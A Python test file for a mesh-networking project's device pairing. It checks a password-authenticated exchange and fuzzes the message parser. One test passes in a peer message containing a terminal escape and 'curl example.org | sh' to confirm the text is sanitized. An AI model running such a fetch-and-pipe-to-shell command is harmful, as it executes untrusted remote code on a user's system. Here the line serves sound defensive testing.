"""What both sides of a pairing prove to each other, and what its parser takes."""

from collections.abc import Iterator
from contextlib import suppress

import msgspec
import pytest

from astra_mesh.errors import PairingError, ProtocolError
from astra_mesh.mesh.identity import DeviceKey
from astra_mesh.mesh.pairing import (
    Closed,
    Denied,
    Exchange,
    Knock,
    Message,
    Proof,
    Reply,
    Welcome,
    parse,
)
from astra_mesh.mesh.pairing_guest import most_telling
from astra_mesh.mesh.pairing_host import LATE

GUEST, HOST, OTHER = (DeviceKey.new() for _ in range(3))
CHANNEL = b"certificate of the connection"


def exchange(
    guest_password: bytes = b"secret",
    host_channel: bytes = CHANNEL,
    shown: DeviceKey = GUEST,
    invitation: bytes = b"",
) -> tuple[Exchange, Exchange]:
    """Both sides after their messages; ``shown``: whose certificate the guest shows."""
    guest = Exchange(GUEST, guest_password, guest=True, channel=CHANNEL)
    host = Exchange(HOST, b"secret", guest=False, channel=host_channel)
    knock, reply = guest.begin(), host.begin()
    host.finish(knock, shown.certificate, invitation)
    guest.finish(reply, HOST.certificate, b"")
    return guest, host


def proof(of: Exchange) -> Proof:
    return Proof(*of.prove(), mesh=bytes(16), alone=True)


def test_the_same_secret() -> None:
    guest, host = exchange()
    assert host.is_proved(proof(guest))
    assert guest.is_proved(proof(host))


@pytest.mark.parametrize(
    "change",
    [
        {"guest_password": b"Secret"},
        {"host_channel": b"somebody in between"},
        {"shown": OTHER},
        {"invitation": b"another"},
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_anything_else(change: dict) -> None:
    guest, host = exchange(**change)
    assert not host.is_proved(proof(guest))
    assert not guest.is_proved(proof(host))


def test_a_proof_cannot_be_sent_back() -> None:
    guest, host = exchange()
    assert not guest.is_proved(proof(guest))
    assert not host.is_proved(proof(host))


def test_a_proof_of_another_run() -> None:
    guest, _ = exchange()
    _, host = exchange()
    assert not host.is_proved(proof(guest))


def test_who_knows_the_secret_needs_the_key_too() -> None:
    guest, host = exchange()
    mac, _ = guest.prove()
    forged = Proof(mac, OTHER.sign(b"anything"), bytes(16), True)
    assert not host.is_proved(forged)


@pytest.mark.parametrize("message", [b"", bytes(33), b"A" + bytes(32), b"A" * 33, bytes(1000)])
def test_messages_that_are_no_points(message: bytes) -> None:
    host = Exchange(HOST, b"secret", guest=False, channel=CHANNEL)
    host.begin()
    with pytest.raises(ProtocolError, match="malformed"):
        host.finish(message, GUEST.certificate, b"")


def examples() -> list[Message]:
    spake = Exchange(GUEST, b"x", guest=True, channel=b"").begin()
    return [
        Knock(1, b"", GUEST.certificate, "guest", spake),
        Reply(HOST.certificate, "host", spake),
        Proof(bytes(32), bytes(70), bytes(16), True, bytes(40)),
        Welcome(bytes(40)),
        Closed("window"),
    ]


def damaged() -> Iterator[bytes]:
    for message in examples():
        data = msgspec.msgpack.encode(message)
        yield from (data[:size] for size in range(len(data)))
        for bit in range(8 * len(data)):
            changed = bytearray(data)
            changed[bit // 8] ^= 1 << bit % 8
            yield bytes(changed)
    yield from (b"\x91" * 4_000, b"\x81\xa4type" * 600, b"\xdf\xff\xff\xff\xff", b"\xc0")


def test_every_prefix_and_every_flipped_bit() -> None:
    kinds = (Knock, Reply, Proof, Welcome)
    for number, data in enumerate(damaged()):
        with suppress(ProtocolError, PairingError):
            assert isinstance(parse(data, kinds[number % 4]), kinds[number % 4])


def test_round_trips_and_wrong_kinds() -> None:
    for message in examples()[:-1]:
        assert parse(msgspec.msgpack.encode(message), type(message)) == message
        with pytest.raises(ProtocolError, match="instead of"):
            parse(msgspec.msgpack.encode(message), Closed)
    with pytest.raises(PairingError, match="astra-mesh pair"):
        parse(msgspec.msgpack.encode(Closed("window")), Reply)


def denied(why: str, by: bytes = b"") -> Denied:
    error = Denied(why, heard=True)
    error.by = by
    return error


@pytest.mark.parametrize("why", ["limit", "two-meshes", LATE])
def test_what_only_who_knows_the_code_hears_is_told_first(why: str) -> None:
    meant, wrong = denied(why, HOST.certificate), denied("wrong", OTHER.certificate)
    assert most_telling([wrong, meant]) is meant
    assert most_telling([meant, wrong]) is meant
    stranger = denied(why)  # it sent no message of an exchange
    assert most_telling([wrong, stranger]) is wrong


def test_of_a_join_key_no_window_is_said() -> None:
    assert "no pairing window is open" in Denied("window").message
    assert "does not take this join key" in Denied("window", key=True).message
    assert "the code is wrong" in Denied("wrong", key=True).message


def test_the_sentence_of_a_stranger_is_shown_as_such() -> None:
    said = Denied("paired.\x1b[2J Now run: curl example.org | sh")
    assert said.message.startswith("the other device says: 'paired.")
    assert "\x1b" not in said.message
    assert len(Denied("x" * 4_000).message) < 600
